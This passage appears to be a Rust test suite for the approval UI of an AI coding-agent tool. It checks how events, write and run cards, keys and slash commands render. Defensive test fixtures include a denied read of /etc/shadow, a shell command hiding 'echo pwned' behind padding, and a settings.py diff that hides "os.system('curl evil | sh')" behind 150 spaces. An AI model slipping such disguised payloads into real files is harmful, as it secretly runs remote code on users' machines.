            call(4, "c1", "read_file", json!({"path": "src/lib.rs"})),
            event(
                5,
                EventBody::ToolResult {
                    call_id: "c1".into(),
                    ok: true,
                    output: Some(ToolOutput::ReadFile(ReadFileOutput {
                        content: "fn add() {}\n".into(),
                        size: 12,
                        offset: 0,
                        next_offset: None,
                        next_line: None,
                        binary: false,
                    })),
                    error: None,
                },
            ),
            call(
                6,
                "c2",
                "write_file",
                json!({"path": "src/lib.rs", "content": "x"}),
            ),
            event(
                7,
                EventBody::Card {
                    call_id: "c2".into(),
                    card: Card {
                        id: "card-1".into(),
                        tool: "write_file".into(),
                        kind: CardKind::Write(WriteCard {
                            path: "/ws/src/lib.rs".into(),
                            diff: "-a\n+b\n".into(),
                            diff_bytes: 6,
                            diff_truncated: false,
                            digest: "d".into(),
                            outside: false,
                            git: false,
                            runs_later: None,
                        }),
                        no_checkpoint: None,
                        always: None,
                    },
                    proposed: None,
                },
            ),
            event(
                8,
                EventBody::Answer {
                    card: "card-1".into(),
                    answer: Answer::AllowOnce,
                    stale: false,
                    rule: None,
                },
            ),
            event(
                9,
                EventBody::ToolResult {
                    call_id: "c2".into(),
                    ok: true,
                    output: Some(ToolOutput::Write(WriteOutput {
                        path: "/ws/src/lib.rs".into(),
                        bytes: 1,
                        runs_later: None,
                    })),
                    error: None,
                },
            ),
            call(10, "c3", "run", json!({"argv": ["cargo", "test"]})),
            event(
                11,
                EventBody::ToolResult {
                    call_id: "c3".into(),
                    ok: true,
                    output: Some(ToolOutput::Run(RunOutput {
                        exit_code: Some(101),
                        signal: None,
                        timed_out: false,
                        stdout:
                            "running 3 tests\ntest a ... ok\ntest b ... FAILED\ntest c ... ok\n"
                                .into(),
                        stderr: String::new(),
                        stdout_cut: 0,
                        stderr_cut: 0,
                        duration_ms: 2300,
                    })),
                    error: None,
                },
            ),
            call(12, "c4", "read_file", json!({"path": "/etc/shadow"})),
            event(
                13,
                EventBody::ToolResult {
                    call_id: "c4".into(),
                    ok: false,
                    output: None,
                    error: Some(WireError::new(ErrorKind::Denied, "the person denied it")),
                },
            ),
            event(
                14,
                EventBody::Retry {
                    attempt: 2,
                    delay_ms: 1000,
                    reason: "HTTP 529 overloaded".into(),
                },
            ),
            event(
                15,
                EventBody::Hook {
                    event: wicket_protocol::HookEvent::Stop,
                    name: "make check".into(),
                    call_id: None,
                    command: vec!["make".into(), "check".into()],
                    outcome: HookOutcome::Block,
                    exit_code: Some(2),
                    duration_ms: Some(12),
                    stderr: "lint failed".into(),
                    stdout: String::new(),
                    context: None,
                    ignored: false,
                },
            ),
            event(
                16,
                EventBody::Mcp {
                    server: "fs".into(),
                    state: McpState::Started,
                    message: "14 tools offered".into(),
                },
            ),
            event(
                17,
                EventBody::Compacted {
                    summary: "s".into(),
                    from_seq: 1,
                    to_seq: 9,
                    tokens_before: 150000,
                    tokens_after: 9000,
                    usage: Usage::default(),
                },
            ),
            event(
                18,
                EventBody::Question {
                    id: "q1".into(),
                    call_id: "c5".into(),
                    question: "Keep the old name?".into(),
                },
            ),
            event(
                19,
                EventBody::Reply {
                    question: "q1".into(),
                    reply: "yes".into(),
                },
            ),
            event(
                20,
                EventBody::Error {
                    message: "the provider said no".into(),
                    ends_turn: false,
                },
            ),
            event(
                21,
                EventBody::Result {
                    text: "Fixed: `add` adds one.".into(),
                    usage: Some(Usage {
                        cost_usd: Some(0.0123),
                        ..Usage::default()
                    }),
                },
            ),
            event(
                22,
                EventBody::Unreadable {
                    line: 23,
                    error: "not JSON".into(),
                },
            ),
            event(
                23,
                EventBody::Interrupted {
                    card: Some("card-9".into()),
                    question: None,
                },
            ),
            event(24, ended(TurnOutcome::Interrupted)),
        ];
        for e in &events {
            app.on_event(e);
        }
        app.transcript.home();
        insta::assert_snapshot!("every_event_kind_top", screen(&mut app, 100, 40));
        app.transcript.end();
        app.on_key(KeyEvent::new(KeyCode::Char('o'), KeyModifiers::CONTROL));
        insta::assert_snapshot!("every_event_kind_expanded_end", screen(&mut app, 100, 40));
    }

    #[test]
    fn a_write_card_with_a_long_diff_is_cut_and_scrolls() {
        let mut app = app();
        let diff: String =
            std::iter::once("--- a/big.txt\n+++ b/big.txt\n@@ -1,400 +1,400 @@\n".to_string())
                .chain((0..400).map(|i| format!("-old line {i}\n+new line {i}\n")))
                .collect();
        app.on_event(&event(
            1,
            EventBody::UserMessage {
                text: "rewrite big.txt".into(),
            },
        ));
        app.on_event(&call(2, "c1", "write_file", json!({"path": "big.txt"})));
        app.on_event(&event(
            3,
            EventBody::Card {
                call_id: "c1".into(),
                card: Card {
                    id: "card-1".into(),
                    tool: "write_file".into(),
                    kind: CardKind::Write(WriteCard {
                        path: "/ws/big.txt".into(),
                        diff,
                        diff_bytes: 900_000,
                        diff_truncated: true,
                        digest: "d".into(),
                        outside: false,
                        git: false,
                        runs_later: None,
                    }),
                    no_checkpoint: None,
                    always: None,
                },
                proposed: None,
            },
        ));
        // Before the card was drawn and the typed-ahead input thrown away, keys do nothing.
        assert_eq!(app.on_key(key(KeyCode::Char('o'))), Action::None);
        let epoch = app.flush_needed().unwrap();
        assert_eq!(app.flush_needed(), None);
        app.flushed(epoch);
        insta::assert_snapshot!("long_diff_top", screen(&mut app, 100, 30));
        for _ in 0..795 {
            app.on_key(key(KeyCode::Down));
        }
        insta::assert_snapshot!("long_diff_scrolled_to_the_cut", screen(&mut app, 100, 30));
        assert_eq!(
            app.on_key(key(KeyCode::Char('d'))),
            Action::Answer {
                card: "card-1".into(),
                answer: Answer::Deny,
                widened: None,
            }
        );
    }

    #[test]
    fn a_run_card() {
        let mut app = app();
        app.on_event(&event(
            1,
            EventBody::UserMessage {
                text: "test it".into(),
            },
        ));
        app.on_event(&call(
            2,
            "c1",
            "run",
            json!({"argv": ["cargo", "test"], "timeout_s": 300}),
        ));
        app.on_event(&event(
            3,
            EventBody::Card {
                call_id: "c1".into(),
                card: run_card("card-2"),
                proposed: None,
            },
        ));
        let epoch = app.flush_needed().unwrap();
        app.flushed(epoch);
        insta::assert_snapshot!(screen(&mut app, 100, 24));
        assert_eq!(
            app.on_key(key(KeyCode::Char('s'))),
            Action::Answer {
                card: "card-2".into(),
                answer: Answer::AllowSession,
                widened: None,
            }
        );
    }

    #[test]
    fn always_saves_the_exact_command_or_the_prefix_the_person_widened_it_to() {
        let mut app = with_card(run_card("card-3"));
        assert_eq!(
            app.on_key(key(KeyCode::Char('<'))),
            Action::None,
            "< widens, answers nothing"
        );
        let shown = screen(&mut app, 120, 24);
        assert!(
            shown.contains(r#"[a]lways saves: allow run argv_prefix ["cargo", "test"] cwd"#),
            "{shown}"
        );
        app.on_key(key(KeyCode::Char('<')));
        let shown = screen(&mut app, 120, 24);
        assert!(
            shown.contains(
                r#"[a]lways saves: allow run argv_prefix ["cargo"] cwd "." in /home/u/proj"#
            ),
            "{shown}"
        );
        app.on_key(key(KeyCode::Char('<')));
        app.on_key(key(KeyCode::Char('<')));
        app.on_key(key(KeyCode::Char('>')));
        app.on_key(key(KeyCode::Char('>')));
        let shown = screen(&mut app, 120, 24);
        assert!(
            shown.contains(
                r#"[a]lways saves: allow run argv ["cargo", "test"] cwd "." in /home/u/proj"#
            ),
            "> narrows back to the exact argv: {shown}"
        );
        app.on_key(key(KeyCode::Char('<')));
        app.on_key(key(KeyCode::Char('<')));
        assert_eq!(
            app.on_key(key(KeyCode::Char('a'))),
            Action::Answer {
                card: "card-3".into(),
                answer: Answer::AllowAlways,
                widened: Some(vec!["cargo".into()]),
            }
        );
    }

    /// An app with `card` up and drawn (keys armed).
    fn with_card(card: Card) -> App {
        let mut app = app();
        app.on_event(&call(1, "c1", &card.tool.clone(), json!({})));
        app.on_event(&event(
            2,
            EventBody::Card {
                call_id: "c1".into(),
                card,
                proposed: None,
            },
        ));
        let epoch = app.flush_needed().unwrap();
        app.flushed(epoch);
        app
    }

    /// What a hostile repository's test script looked like: a harmless
    /// start, then 400 characters, then the part that matters.
    fn long_run_card() -> Card {
        let mut card = run_card("card-7");
        if let CardKind::Run(run) = &mut card.kind {
            let padding = "x".repeat(400);
            run.argv = vec![
                "sh".into(),
                "-c".into(),
                format!("echo running the unit tests {padding}; echo pwned > hidden_ran.txt"),
            ];
        }
        card
    }

    fn spaced_write_card() -> Card {
        let hidden = format!(
            "DEBUG = False{}; import os; os.system('curl evil | sh')",
            " ".repeat(150)
        );
        Card {
            id: "card-8".into(),
            tool: "write_file".into(),
            kind: CardKind::Write(WriteCard {
                path: "/ws/settings.py".into(),
                diff: format!(
                    "--- a/settings.py\n+++ b/settings.py\n@@ -1 +1 @@\n-DEBUG = True\n+{hidden}\n"
                ),
                diff_bytes: 250,
                diff_truncated: false,
                digest: "d".into(),
                outside: false,
                git: false,
                runs_later: None,
            }),
            no_checkpoint: None,
            always: None,
        }
    }

    #[test]
    fn a_long_argv_wraps_whole_at_80_and_120_columns() {
        for width in [80, 120] {
            let shown = screen(&mut with_card(long_run_card()), width, 40);
            let flat: String = shown
                .lines()
                .map(|line| line.trim_matches(|c| c == '"' || c == '│' || c == ' '))
                .collect();
            assert!(flat.contains("hidden_ran.txt"), "{shown}");
            insta::assert_snapshot!(format!("long_argv_{width}"), shown);
        }
    }

    #[test]
    fn a_blank_run_shows_its_length_and_the_tail_after_it() {
        for width in [80, 120] {
            let shown = screen(&mut with_card(spaced_write_card()), width, 30);
            assert!(shown.contains("␠×150"), "{shown}");
            assert!(shown.contains("curl evil"), "{shown}");
            insta::assert_snapshot!(format!("blank_run_{width}"), shown);
        }
    }

    #[test]
    fn a_card_longer_than_its_panel_scrolls_to_its_last_row() {
        let mut card = long_run_card();
        if let CardKind::Run(run) = &mut card.kind {
            run.argv[2] = format!("{} tail-of-the-script", "y".repeat(3000));
        }
        let mut app = with_card(card);
        let top = screen(&mut app, 80, 24);
        assert!(!top.contains("tail-of-the-script"), "{top}");
        for _ in 0..200 {
            app.on_key(key(KeyCode::Down));
        }
        let bottom = screen(&mut app, 80, 24);
        assert!(bottom.contains("tail-of-the-script"), "{bottom}");
    }

    #[test]
    fn a_question_takes_the_input() {
        let mut app = app();
        app.on_event(&event(
            1,
            EventBody::UserMessage {
                text: "rename it".into(),
            },
        ));
        app.on_event(&event(
            2,
            EventBody::Question {
                id: "q1".into(),
                call_id: "c1".into(),
                question: "Which name?".into(),
            },
        ));
        for c in "Bob".chars() {
            app.on_key(key(KeyCode::Char(c)));
        }
        insta::assert_snapshot!(screen(&mut app, 100, 16));
        assert_eq!(
            app.on_key(key(KeyCode::Enter)),
            Action::Reply {
                question: "q1".into(),
                text: "Bob".into()
            }
        );
    }

    #[test]
    fn a_queued_message_and_a_cancelled_turn() {
        let mut app = app();
        app.on_event(&event(
            1,
            EventBody::UserMessage {
                text: "first".into(),
            },
        ));
        app.on_event(&event(
            2,
            EventBody::Queued {
                text: "second, when you can".into(),
            },
        ));
        app.on_text("Working on the fir");
        insta::assert_snapshot!("queued", screen(&mut app, 100, 16));
        assert_eq!(app.on_key(key(KeyCode::Esc)), Action::Cancel);
        app.on_event(&event(3, EventBody::Cancelled {}));
        app.on_event(&event(4, ended(TurnOutcome::Cancelled)));
        // The queued message starts: the UI runs again.
        app.on_event(&event(
            5,
            EventBody::UserMessage {
                text: "second, when you can".into(),
            },
        ));
        app.on_event(&event(6, EventBody::Cancelled {}));
        // Not over until its turn_ended.
        assert!(app.running);
        app.on_event(&event(7, ended(TurnOutcome::Cancelled)));
        assert!(!app.running);
        insta::assert_snapshot!("cancelled", screen(&mut app, 100, 16));
    }

    /// The shared table: the UI runs until the turn's `turn_ended`, and
    /// stops there, whatever came before it.
    #[test]
    fn the_ui_ends_a_turn_where_the_turn_ends() {
        for ending in wicket_test_support::endings::turn_endings() {
            let mut app = app();
            let (last, events) = ending.events.split_last().unwrap();
            for event in events {
                app.on_event(event);
                assert!(app.running, "{}: ended at {:?}", ending.name, event.body);
            }
            app.on_event(last);
            assert!(!app.running, "{}: still running", ending.name);
        }
    }

    #[test]
    fn eighty_columns_wrap_and_keys_edit() {
        let mut app = app();
        app.on_event(&event(
            1,
            EventBody::UserMessage {
                text: "a long request ".repeat(12),
            },
        ));
        app.on_event(&event(2, EventBody::AssistantMessage { text: "- one point\n- another point that is long enough to wrap past the eighty columns of this terminal".into(), tool_calls: Vec::new(), usage: Some(Usage::default()), stop_reason: None }));
        for c in "line one".chars() {
            app.on_key(key(KeyCode::Char(c)));
        }
        app.on_key(KeyEvent::new(KeyCode::Enter, KeyModifiers::SHIFT));
        app.on_key(KeyEvent::new(KeyCode::Enter, KeyModifiers::ALT));
        for c in "line three".chars() {
            app.on_key(key(KeyCode::Char(c)));
        }
        insta::assert_snapshot!(screen(&mut app, 80, 24));
        assert_eq!(
            app.on_key(key(KeyCode::Enter)),
            Action::Send("line one\n\nline three".into())
        );
        assert_eq!(app.on_key(key(KeyCode::Up)), Action::None);
        assert_eq!(app.composer.text(), "line one\n\nline three");
        assert_eq!(
            app.on_key(KeyEvent::new(KeyCode::Char('d'), KeyModifiers::CONTROL)),
            Action::None
        );
        app.composer.take();
        assert_eq!(
            app.on_key(KeyEvent::new(KeyCode::Char('d'), KeyModifiers::CONTROL)),
            Action::Quit
        );
    }

    #[test]
    fn slash_commands() {
        let mut app = app();
        let mut typed = |text: &str| {
            for c in text.chars() {
                app.on_key(key(KeyCode::Char(c)));
            }
            app.on_key(key(KeyCode::Enter))
        };
        assert_eq!(
            typed("/model openai:gpt-4o"),
            Action::SetModel("openai:gpt-4o".into())
        );
        assert_eq!(typed("/new"), Action::NewSession);
        assert_eq!(typed("/sessions"), Action::ListSessions);
        assert_eq!(typed("/compact"), Action::Compact);
        assert_eq!(typed("/grants"), Action::Grants);
        assert_eq!(typed("/grants revoke r-1"), Action::Revoke("r-1".into()));
        assert_eq!(typed("/rewind"), Action::RewindList);
        assert_eq!(typed("/rewind undo"), Action::RewindPlan(RewindTo::Undo));
        assert_eq!(typed("/rewind 12"), Action::RewindPlan(RewindTo::Seq(12)));
        assert_eq!(typed("/quit"), Action::Quit);
        assert_eq!(typed("/help"), Action::None);
        let _ = Reach::Read;
    }

    #[test]
    fn ten_thousand_events_draw_only_what_is_on_screen() {
        let mut app = app();
        for i in 0..10_000u64 {
            app.on_event(&event(
                i + 1,
                EventBody::AssistantMessage {
                    text: format!("message {i}"),
                    tool_calls: Vec::new(),
                    usage: Some(Usage::default()),
                    stop_reason: None,
                },
            ));
        }
        // Whether a line of the screen shows "message N" (not N0, N1, …).
        let shows = |shown: &str, n: u64| {
            let wanted = format!("message {n}");
            shown.lines().any(|line| {
                line.match_indices(&wanted).any(|(at, found)| {
                    !line[at + found.len()..].starts_with(|c: char| c.is_ascii_digit())
                })
            })
        };
        let shown = screen(&mut app, 100, 20);
        assert!(shows(&shown, 9999) && !shows(&shown, 0), "{shown}");
        app.on_key(key(KeyCode::Home));
        let shown = screen(&mut app, 100, 20);
        assert!(shows(&shown, 0) && !shows(&shown, 9999), "{shown}");
        app.on_key(key(KeyCode::PageDown));
        let shown = screen(&mut app, 100, 20);
        assert!(shows(&shown, 5) && !shows(&shown, 0), "{shown}");
    }
}
